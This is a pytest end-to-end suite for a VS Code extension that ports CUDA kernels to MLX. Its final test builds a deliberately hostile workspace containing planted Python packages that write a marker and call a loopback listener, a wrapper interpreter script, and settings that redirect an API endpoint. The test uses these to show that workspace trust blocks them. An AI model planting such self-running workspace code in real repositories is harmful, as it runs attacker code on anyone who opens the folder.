"""In a real VS Code (code-server in Debian's chromium), a user ports a CUDA kernel to MLX: the code
lens and the lightbulb offer "Port to MLX", progress shows while the search runs, the candidate opens
(a new module alone, as a plain preview), Accept writes the MLX module to disk, and the inlay hint and the hover show the result.
Screenshots of each step go to test-artifacts/editor/."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import re
import time
import urllib.request
from pathlib import Path

import pytest

from editor_helpers import FALLBACK_KERNEL, KERNEL, REPO, kernel_line, new_python_files, python_files, walk_files

pytestmark = [pytest.mark.slow, pytest.mark.timeout(480)]

SCREENSHOTS = ["01-action.png", "02-progress.png", "03-diff.png", "04-accepted.png", "05-hover.png", "06-api-key.png"]
GEMINI_KEY = "AIzaTESTKEY-" + os.urandom(8).hex()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def user_settings(python: str) -> dict:
    return {
        "ksearch.interpreter": python,
        "ksearch.proposer": "offline",
        "ksearch.budget.evaluations": 4,
        # Quiet the workbench so the screenshots show the editor.
        "security.workspace.trust.enabled": False,
        "workbench.startupEditor": "none",
        "workbench.tips.enabled": False,
        "workbench.secondarySideBar.defaultVisibility": "hidden",
        "chat.disableAIFeatures": True,
        "telemetry.telemetryLevel": "off",
        "extensions.ignoreRecommendations": True,
        "workbench.enableExperiments": False,
        "extensions.autoUpdate": False,
        "extensions.autoCheckUpdates": False,
        "update.mode": "none",
        "editor.minimap.enabled": False,
        "editor.inlayHints.enabled": "on",
        "editor.hover.delay": 200,
        "ksearch.trace.server": "verbose",   # the key test checks that even traced messages hide the key
    }


def files_containing(root: Path, needle: bytes) -> list[Path]:
    """Files under root whose bytes contain needle; files that vanish while code-server runs are skipped."""
    found = []
    for path in walk_files(root):
        try:
            if path.is_file() and needle in path.read_bytes():
                found.append(path)
        except OSError:
            continue
    return found


def wait_http(url: str, proc: subprocess.Popen, timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"code-server exited with {proc.returncode} before it served {url}")
        try:
            with urllib.request.urlopen(url, timeout=2):
                return
        except OSError:
            time.sleep(0.2)
    raise AssertionError(f"code-server did not answer {url} within {timeout}s")


@contextlib.contextmanager
def running_code_server(tools, workspace: Path, home: Path, artifacts: Path, settings: dict, tag: str,
                        workspace_trust: bool = False, env: dict | None = None, info: dict | None = None):
    """code-server on a free loopback port, with the extension installed from the .vsix; yields its URL.
    workspace_trust: leave VS Code's workspace trust on (else --disable-workspace-trust); info gets its pid."""
    user_data, extensions = home / "user-data", home / "extensions"
    (user_data / "User").mkdir(parents=True)
    (user_data / "User" / "settings.json").write_text(json.dumps(settings, indent=2))
    config = home / "code-server.yaml"
    config.write_text("auth: none\n")
    base = [str(tools.code_server), "--config", str(config), "--user-data-dir", str(user_data),
            "--extensions-dir", str(extensions)]
    installed = subprocess.run([*base, "--install-extension", str(tools.vsix)], capture_output=True, text=True,
                               timeout=120)
    assert installed.returncode == 0, f"--install-extension failed: {installed.stdout}{installed.stderr}"
    assert any(p.name.startswith("ksearch.ksearch-") for p in extensions.iterdir()), installed.stdout

    port = free_port()
    log = (artifacts / f"code-server-{tag}.log").open("w")
    proc = subprocess.Popen(
        [*base, "--bind-addr", f"127.0.0.1:{port}", "--auth", "none", "--disable-telemetry",
         "--disable-update-check", *([] if workspace_trust else ["--disable-workspace-trust"]), str(workspace)],
        stdout=log, stderr=subprocess.STDOUT, start_new_session=True, cwd=workspace,
        env={**os.environ, **(env or {})})
    if info is not None:
        info["pid"] = proc.pid
    try:
        wait_http(f"http://127.0.0.1:{port}/healthz", proc, 60)
        yield f"http://127.0.0.1:{port}"
    finally:
        try:
            os.killpg(proc.pid, signal.SIGTERM)
            proc.wait(timeout=10)
        except (ProcessLookupError, subprocess.TimeoutExpired):
            os.killpg(proc.pid, signal.SIGKILL)
        log.close()
        # Keep the extension's and the server's logs next to the screenshots for a failed run.
        for path in (user_data / "logs").rglob("*ksearch*.log"):
            shutil.copy(path, artifacts / f"vscode-{tag}-{path.name}")


def drive(tools, cfg: dict, artifacts: Path, tag: str) -> tuple[subprocess.CompletedProcess, dict]:
    """Runs drive_code_server.mjs with cfg; returns the process and what it saw."""
    cfg = {"playwright": str(tools.playwright), "chromium": str(tools.chromium), "artifacts": str(artifacts), **cfg}
    run = subprocess.run([str(tools.node), str(Path(__file__).with_name("drive_code_server.mjs")), json.dumps(cfg)],
                         capture_output=True, text=True, timeout=420)
    (artifacts / f"drive-{tag}.log").write_text(run.stderr)
    seen = json.loads(run.stdout) if run.stdout.strip().startswith("{") else {"error": run.stdout + run.stderr}
    (artifacts / f"drive-{tag}.json").write_text(json.dumps(seen, indent=2))
    return run, seen


@pytest.fixture
def code_server(tools, language_server, kernel_workspace, tmp_path, artifacts):
    with running_code_server(tools, kernel_workspace, tmp_path, artifacts, user_settings(language_server),
                             "port") as url:
        yield url


def test_port_to_mlx_in_vscode(tools, code_server, kernel_workspace, tmp_path, artifacts):
    for name in [*SCREENSHOTS, "error.png"]:
        (artifacts / name).unlink(missing_ok=True)
    source = kernel_workspace / "softmax.cu"
    before = python_files(kernel_workspace)
    original_source = source.read_text()
    run, seen = drive(tools, {
        "mode": "port", "url": code_server, "folder": str(kernel_workspace), "file": "softmax.cu", "kernel": KERNEL,
        "kernelLine": kernel_line(source), "portTitle": "Port to MLX", "acceptTitle": "Accept",
        "key": GEMINI_KEY, "logs": str(tmp_path / "user-data" / "logs"), "timeoutsMs": {"start": 60_000, "lens": 60_000, "job": 180_000},
    }, artifacts, "port")
    assert run.returncode == 0 and seen.get("ok"), (
        f"the VS Code scenario stopped: {seen.get('error')}\nsteps: {[s['name'] for s in seen.get('steps', [])]}\n"
        f"status bar: {seen.get('statusbar')}\nnotifications: {seen.get('notifications')}\n"
        f"see {artifacts}/error.png and drive-port.log")

    assert any("Port to MLX" in lens for lens in seen["lenses"]), seen["lenses"]
    assert any("Port to MLX" in action for action in seen["actions"]), seen["actions"]
    assert re.search(r"ksearch: \d+ (running|queued)", seen["progress"] or ""), \
        f"the status bar never said 'ksearch: N running' while the port ran: {seen['progress']!r}"
    running = seen.get("runningLenses") or []
    assert any("⟳" in l for l in running) and "Cancel" in running, \
        f"no running lens with Cancel over the kernel while the port ran: {running}"
    # A new module has nothing to compare with: the candidate opens alone as a plain preview (full width), with
    # Accept / Reject in its title bar; a diff against an empty file would waste half the width.
    assert seen["candidateView"] == "preview", f"the new module was shown as a {seen['candidateView']}, not a preview"
    assert seen["candidateTitleBarAccept"], "the candidate preview has no Accept Candidate button in its title bar"
    assert "mlx" in seen["candidateText"], f"the candidate shows no MLX code: {seen['candidateText'][:300]!r}"

    ported = new_python_files(kernel_workspace, before)
    assert ported, f"Accept wrote no Python module into {kernel_workspace}"
    module = ported[0].read_text()
    assert "mlx" in module and "def " in module, f"{ported[0]} does not look like an MLX port:\n{module[:400]}"
    assert source.read_text() == original_source, "porting must not change the CUDA source"

    assert seen["kernelLineAfter"] != seen["kernelLineBefore"], (
        f"no inlay hint appeared on the kernel line: {seen['kernelLineAfter']!r}")
    assert KERNEL in seen["hover"] and "ksearch" in seen["hover"], f"the hover does not show the result: {seen['hover']!r}"
    for name in SCREENSHOTS:
        assert (artifacts / name).stat().st_size > 10_000, f"{name} is missing or blank"

    # Then the user stored a Gemini key and restarted the server: the key reached the server in
    # ksearch/secret and in initialize, yet with every message traced no log and no settings file holds it.
    assert "key stored" in seen["keyNotification"], seen["keyNotification"]
    traced = ""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:   # the log file is written a moment after the message
        traced = "".join(p.read_text(errors="replace") for p in walk_files(tmp_path / "user-data" / "logs")
                         if p.name == "ksearch.log")
        if traced.count('"geminiApiKey": "***"') >= 2:
            break
        time.sleep(0.5)
    assert "Sending notification 'ksearch/secret'" in traced, traced[-2000:]
    assert traced.count('"geminiApiKey": "***"') >= 2, f"the key was not sent (blanked) in ksearch/secret and initialize:\n{traced[-3000:]}"
    leaks = files_containing(tmp_path, GEMINI_KEY.encode())
    assert not leaks, f"the Gemini key was written to {leaks}"


def test_missing_ksearch_shows_the_fix_and_the_fix_works(tools, language_server, kernel_workspace, tmp_path,
                                                         artifacts):
    """With an interpreter that lacks ksearch, VS Code says which one and how to fix it; once the user sets
    ksearch.interpreter to a Python that has it (the hint's button opens the setting), the server restarts by
    itself and the lenses appear."""
    venv = tmp_path / "bare-venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=60)
    bare_python = venv / "bin" / "python"
    (artifacts / "00-missing-ksearch.png").unlink(missing_ok=True)
    home = tmp_path / "home"
    fixed = {"interpreter": language_server, "path": str(home / "user-data" / "User" / "settings.json")}
    with running_code_server(tools, kernel_workspace, home, artifacts, user_settings(str(bare_python)), "missing") as url:
        run, seen = drive(tools, {
            "mode": "missing", "url": url, "folder": str(kernel_workspace), "file": "softmax.cu", "kernel": KERNEL,
            "expect": "pip install ksearch", "portTitle": "Port to MLX", "fixedSettings": fixed,
            "timeoutsMs": {"start": 60_000, "lens": 90_000, "job": 0},
        }, artifacts, "missing")
    assert run.returncode == 0 and seen.get("ok"), (
        f"the missing-ksearch scenario stopped: {seen.get('error')}\nsteps: {[s['name'] for s in seen.get('steps', [])]}\n"
        f"notifications: {seen.get('notifications')}\nsee {artifacts}/error.png and drive-missing.log")
    message = seen["notification"]
    assert f"{bare_python} -m pip install ksearch" in message, message
    assert "ksearch.interpreter" in message, message
    assert "Port to MLX" in seen["lensesAfterFix"], seen["lensesAfterFix"]
    assert seen["settingsAfterFix"]["ksearch.interpreter"] == language_server, seen["settingsAfterFix"]


CORPUS = Path(os.environ.get("KSEARCH_CORPUS", REPO.parent / "shared" / "corpus"))
CONV = CORPUS / "cuda-samples" / "Samples" / "2_Concepts_and_Techniques" / "convolutionSeparable"
CONV_KERNELS = ["convolutionRowsKernel", "convolutionColumnsKernel"]
CORPUS_SCREENSHOTS = ["06-lenses-all-kernels.png", "07-no-improvement.png", "08-two-accepted.png", "09-broken-refused.png"]


@pytest.fixture
def corpus_workspace(tmp_path: Path) -> Path:
    """A workspace holding a real multi-kernel CUDA file from the shared corpus (NVIDIA's convolutionSeparable
    sample: a row and a column kernel, both of whose ports verify), a copy of it with one ')' missing, and the
    project's softmax example (a kernel of a known family, which Optimize can time on this CPU machine)."""
    if not (CONV / "convolutionSeparable.cu").is_file():
        pytest.skip(f"the shared CUDA corpus is not here ({CONV}): this test needs a real multi-kernel file from it; "
                    f"set KSEARCH_CORPUS to the corpus folder")
    ws = tmp_path / "ws"
    ws.mkdir()
    for name in ("convolutionSeparable.cu", "convolutionSeparable_common.h"):
        shutil.copy(CONV / name, ws / name)
    text = (CONV / "convolutionSeparable.cu").read_text()
    lines = text.splitlines(keepends=True)
    columns = kernel_line(ws / "convolutionSeparable.cu", CONV_KERNELS[1])
    broken_at = next(i for i in range(columns, len(lines)) if "cg::this_thread_block()" in lines[i])
    lines[broken_at] = lines[broken_at].replace("cg::this_thread_block()", "cg::this_thread_block(", 1)
    (ws / "convolutionSeparable_broken.cu").write_text("".join(lines))
    example = REPO / "examples" / "softmax" / "softmax.cu"
    (ws / "softmax.cu").write_text(example.read_text() if example.is_file() else FALLBACK_KERNEL)
    return ws


def test_real_multi_kernel_file_in_vscode(tools, language_server, corpus_workspace, tmp_path, artifacts):
    """Issue 16's must-show, on NVIDIA's convolutionSeparable.cu: (a) a lens over every kernel and no error-level
    diagnostic on valid code, (c) Port all kernels in file, then each kernel's port accepted into its own module
    (the second Accept leaves the first module as it was), (b) an Optimize in which nothing beat the user's kernel
    says so and offers nothing to accept, (d) a broken copy gets its error, lenses and disabled actions that say
    why, and no job."""
    for name in [*CORPUS_SCREENSHOTS, "error.png"]:
        (artifacts / name).unlink(missing_ok=True)
    ws = corpus_workspace
    source = ws / "convolutionSeparable.cu"
    original_source = source.read_text()
    before = python_files(ws)
    settings = {**user_settings(language_server),
                # Optimize times on MLX's CPU backend here; one evaluation (yours alone), so that the search ends
                # quickly and no candidate can win on a CPU timing that a busy machine makes noisy (with two, a
                # loaded machine once timed the candidate 1.32x faster and the run offered it); Port checks in the
                # simulator either way.
                "ksearch.backend": "mlx-cpu", "ksearch.budget.evaluations": 1,
                "editor.codeLens": True,
                # both kernels' lines (the file folded to its top level) on one screen for the screenshots
                "editor.fontSize": 12}
    with running_code_server(tools, ws, tmp_path / "home", artifacts, settings, "corpus") as url:
        run, seen = drive(tools, {
            "mode": "corpus", "url": url, "folder": str(ws), "file": source.name, "kernel": CONV_KERNELS[0],
            "firstScreenText": "NVIDIA CORPORATION",
            "kernels": [{"name": k, "line": kernel_line(source, k)} for k in CONV_KERNELS],
            "portTitle": "Port to MLX", "acceptTitle": "Accept", "optimizeTitle": "Optimize kernel",
            "optimizeFile": "softmax.cu", "optimizeKernel": KERNEL,
            "brokenFile": "convolutionSeparable_broken.cu",
            "brokenLine": kernel_line(ws / "convolutionSeparable_broken.cu", CONV_KERNELS[1]),
            "viewport": {"width": 1800, "height": 1100},
            "timeoutsMs": {"start": 60_000, "lens": 90_000, "job": 240_000},
        }, artifacts, "corpus")
    assert run.returncode == 0 and seen.get("ok"), (
        f"the corpus scenario stopped: {seen.get('error')}\nsteps: {[s['name'] for s in seen.get('steps', [])]}\n"
        f"status bar: {seen.get('statusbar')}\nnotifications: {seen.get('notifications')}\n"
        f"see {artifacts}/error.png and drive-corpus.log")

    # (a) a lens over every kernel; valid CUDA opens with no error-level diagnostic
    assert sum("Port to MLX" in t for t in seen["corpusLenses"]) == len(CONV_KERNELS), seen["corpusLenses"]
    assert seen["corpusProblems"]["errors"] == 0, f"valid CUDA got error diagnostics: {seen['corpusProblems']}"
    assert any("Port all kernels in file" in a for a in seen["corpusActions"]), seen["corpusActions"]

    # (c) one module per kernel, both on disk, the first untouched by the second Accept
    assert sorted(seen["modules"]) == sorted(CONV_KERNELS), seen["modules"]
    ported = new_python_files(ws, before)
    assert len(ported) == 2 and {p.name for p in ported} == {Path(p).name for p in seen["modules"].values()}, ported
    for kernel, path in seen["modules"].items():
        text = Path(path).read_text()
        assert kernel in Path(path).name and "mlx" in text and kernel in text, f"{path} is not {kernel}'s port"
        assert text == seen["moduleTexts"][kernel] == seen["moduleTextsAfter"][kernel], \
            f"{Path(path).name} changed after it was accepted (another kernel's Accept overwrote it?)"
    accepted = [t for t in seen["corpusLensesAccepted"] if t.startswith("Accepted")]
    assert len(accepted) == 2, f"not one 'Accepted' lens per kernel: {seen['corpusLensesAccepted']}"
    assert not any(t == "Accept" for t in seen["corpusLensesAccepted"]), seen["corpusLensesAccepted"]
    assert source.read_text() == original_source, "porting must not change the CUDA source"

    # (b) nothing beat the user's kernel: the lens and a message say so, and there is nothing to accept
    assert any(t.startswith("No candidate beat your kernel (") for t in seen["noGainLenses"]), (
        f"the Optimize did not end with 'No candidate beat your kernel': {seen['noGainLenses']} "
        f"(if a candidate beat it, the lens offers it: {seen.get('noGainNotifications')})")
    assert "Accept" not in seen["noGainLenses"], seen["noGainLenses"]
    assert seen["noGainMessage"] and "nothing to accept" in seen["noGainMessage"], seen.get("noGainNotifications")

    # (d) the broken copy: its error, a lens and disabled actions that say why, no job, no module
    assert seen["brokenProblems"]["errors"] and seen["brokenProblems"]["errors"] >= 1, seen["brokenProblems"]
    disabled = [t for t in seen["brokenLenses"] if "disabled" in t]
    assert len(disabled) == len(CONV_KERNELS) and all("missing ')'" in t for t in disabled), seen["brokenLenses"]
    assert not any(t in ("Port to MLX", "Optimize kernel") for t in seen["brokenLenses"]), seen["brokenLenses"]
    assert "does not parse" in seen["brokenMessage"] and "disabled" in seen["brokenMessage"], seen["brokenMessage"]
    assert any("Port to MLX" in t for t in seen["brokenActionsDisabled"]), (
        f"the Refactor menu does not show Port to MLX disabled: {seen['brokenActions']} / {seen['brokenActionsDisabled']}")
    assert not [p for p in python_files(ws) if "broken" in p.name], "a module was written for the broken file"
    assert not re.search(r"ksearch: \d+ (running|queued)", seen["brokenStatus"]), seen["brokenStatus"]

    for name in CORPUS_SCREENSHOTS:
        assert (artifacts / name).stat().st_size > 10_000, f"{name} is missing or blank"


class Listener:
    """A TCP listener on loopback that counts the connections it gets (and what they send first)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = False
        import threading
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(4096))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def hostile_workspace(ws: Path, marker: Path, port: int) -> None:
    """A cloned repository that tries to run its own code through ksearch: its own ksearch_server/ and
    ksearch_engine/ packages and an 'interpreter' script (each writes the marker and calls the listener), and a
    .vscode/settings.json that points the proposer at that listener."""
    payload = (f"import pathlib, socket\n"
               f"pathlib.Path({str(marker)!r}).open('a').write(__name__ + '\\n')\n"
               f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hostile ' + __name__.encode())\n"
               f"except OSError:\n    pass\n")
    for package in ("ksearch_server", "ksearch_engine"):
        (ws / package).mkdir()
        for module in ("__init__.py", "__main__.py", "worker.py"):
            (ws / package / module).write_text(payload)
    evil = ws / "tools" / "python"
    evil.parent.mkdir()
    evil.write_text(f"#!/bin/sh\necho interpreter >> {marker}\nexec {sys.executable} \"$@\"\n")
    evil.chmod(0o755)
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "settings.json").write_text(json.dumps({
        "ksearch.interpreter": str(evil),
        "ksearch.proposer": "openai",
        "ksearch.openaiBaseUrl": f"http://127.0.0.1:{port}/v1",
        "ksearch.model": "hostile-model",
        "ksearch.backend": "sim",
    }, indent=2))


def server_processes(root_pid: int) -> list[dict]:
    """The ksearch_server processes under root_pid: their argv, working directory and executable."""
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(entry.name))
    found, todo = [], [root_pid]
    while todo:
        pid = todo.pop()
        todo.extend(children.get(pid, []))
        try:
            argv = (Path("/proc") / str(pid) / "cmdline").read_bytes().split(b"\0")
            argv = [a.decode(errors="replace") for a in argv if a]
            if "ksearch_server" in argv:
                found.append({"pid": pid, "argv": argv, "cwd": os.readlink(f"/proc/{pid}/cwd"),
                              "exe": os.readlink(f"/proc/{pid}/exe")})
        except OSError:
            continue
    return found


@pytest.mark.skipif(sys.platform != "linux", reason="reads the server process from /proc")
@pytest.mark.parametrize("trusted", [False, True], ids=["restricted", "trusted"])
def test_hostile_cloned_workspace_runs_none_of_its_code_in_vscode(tools, language_server, tmp_path, artifacts, trusted):
    """Issue 17: a cloned workspace holding ksearch_server/, ksearch_engine/, an 'interpreter' script and a
    .vscode/settings.json that sets ksearch.proposer to openai at a local listener, opened in VS Code with
    workspace trust on. Restricted Mode (not trusted): Port and Optimize run, yet the marker those files write
    never appears, the listener gets no connection (OPENAI_API_KEY is in the environment), and the server that
    ran is ours: `<our python> -P -m ksearch_server` from outside the workspace, its log naming the offline
    proposer. Trusted (the user chose to trust it): its settings apply — its interpreter script runs and its
    endpoint is called, which shows the same detectors see an attack when the restriction is off — yet its
    ksearch_server/ and ksearch_engine/ folders still never run (-P, started outside the workspace)."""
    ws = tmp_path / "cloned"
    ws.mkdir()
    example = REPO / "examples" / "softmax" / "softmax.cu"
    (ws / "softmax.cu").write_text(example.read_text() if example.is_file() else FALLBACK_KERNEL)
    marker = tmp_path / "HOSTILE-CODE-RAN"
    listener = Listener()
    hostile_workspace(ws, marker, listener.port)
    settings = {**user_settings(language_server), "security.workspace.trust.enabled": True,
                "ksearch.backend": "mlx-cpu", "ksearch.budget.evaluations": 2}
    info: dict = {}
    home = tmp_path / "home"
    try:
        with running_code_server(tools, ws, home, artifacts, settings, f"hostile-{'trusted' if trusted else 'restricted'}",
                                 workspace_trust=True,
                                 env={"OPENAI_API_KEY": "sk-hostile-test-" + os.urandom(6).hex()}, info=info) as url:
            run, seen = drive(tools, {
                "mode": "hostile", "trust": trusted, "url": url, "folder": str(ws), "file": "softmax.cu",
                "logs": str(home / "user-data" / "logs"),
                "kernel": KERNEL, "portTitle": "Port to MLX", "optimizeTitle": "Optimize kernel",
                "acceptTitle": "Accept", "timeoutsMs": {"start": 60_000, "lens": 90_000, "job": 180_000},
            }, artifacts, f"hostile-{'trusted' if trusted else 'restricted'}")
            servers = server_processes(info["pid"])
    finally:
        listener.close()
    (artifacts / f"hostile-servers-{'trusted' if trusted else 'restricted'}.json").write_text(json.dumps(servers, indent=2))
    assert run.returncode == 0 and seen.get("ok"), (
        f"the hostile-workspace scenario stopped: {seen.get('error')}\nsteps: {[s['name'] for s in seen.get('steps', [])]}\n"
        f"notifications: {seen.get('notifications')}\nsee {artifacts}/error.png and drive-hostile.log")
    assert seen["restrictedMode"] is (not trusted), (
        f"Restricted Mode is {seen['restrictedMode']} (trust dialog: {seen.get('trustDialog')}, trusted: {trusted})")

    # the jobs ran (so every path that starts a Python or calls a proposer was taken)
    assert seen["candidateView"] in ("preview", "diff") and "mlx" in seen["candidateText"], seen.get("candidateText", "")[:300]
    assert not any("⟳" in t for t in seen["lensesAfter"]), seen["lensesAfter"]

    # the workspace's own ksearch_server/ and ksearch_engine/ never run, trusted or not
    ran = marker.read_text().split() if marker.exists() else []
    assert not [m for m in ran if m != "interpreter"], f"code from the cloned workspace's packages ran: {ran}"
    if trusted:
        # the user trusted the folder: its ksearch.interpreter and its endpoint are used, and the detectors see both
        assert "interpreter" in ran, f"the trusted workspace's interpreter setting was not used: {ran}"
        assert listener.connections, "the trusted workspace's openaiBaseUrl was not used by the openai proposer"
    else:
        assert not marker.exists(), f"code from the cloned workspace ran: {marker.read_text()!r}"
        assert listener.connections == [], f"the workspace's endpoint was contacted: {listener.connections}"

    # the server that ran is ours: our interpreter, -P, started outside the workspace
    assert servers, "no ksearch_server process was found under code-server"
    for proc in servers:
        assert proc["argv"][:4] == [language_server, "-P", "-m", "ksearch_server"] or (
            os.path.realpath(proc["exe"]) == os.path.realpath(language_server) and proc["argv"][1:4] == ["-P", "-m", "ksearch_server"]), proc
        assert not Path(proc["cwd"]).resolve().is_relative_to(ws.resolve()), f"the server runs inside the workspace: {proc}"
    log = "".join(p.read_text(errors="replace") for p in walk_files(home / "user-data" / "logs") if p.name == "ksearch.log")
    started = [line for line in log.splitlines() if "ksearch-lsp started" in line]
    if trusted:
        assert started and "proposer openai" in started[-1], f"the trusted restart did not apply its settings: {started}"
        return
    assert started and all("proposer offline" in line for line in started), (
        f"the server's start line does not name the offline proposer: {started or log[-2000:]}")
    assert str(ws / "tools" / "python") not in log, "the workspace's interpreter was named in the log"

    # and the runs it stored used the offline proposer, not the workspace's endpoint
    from ksearch_engine.store import Store
    runs = Store(ws / ".ksearch" / "ksearch.db").runs(limit=10)
    assert {r.kind for r in runs} >= {"port", "optimize"}, [(r.kind, r.status) for r in runs]
    for r in runs:
        assert "hostile-model" not in json.dumps(r.model_dump(mode="json")), f"run {r.id} used the workspace's model"
        assert str(listener.port) not in json.dumps(r.model_dump(mode="json")), f"run {r.id} used the workspace's endpoint"
        assert r.proposer != "openai", f"run {r.id} used the workspace's proposer: {r.proposer}"
        if r.kind == "optimize":    # the workspace's ksearch.backend (sim) is restricted too: the user's mlx-cpu ran
            assert r.backend != "sim", f"optimize run {r.id} ran on the workspace's backend: {r.backend}"
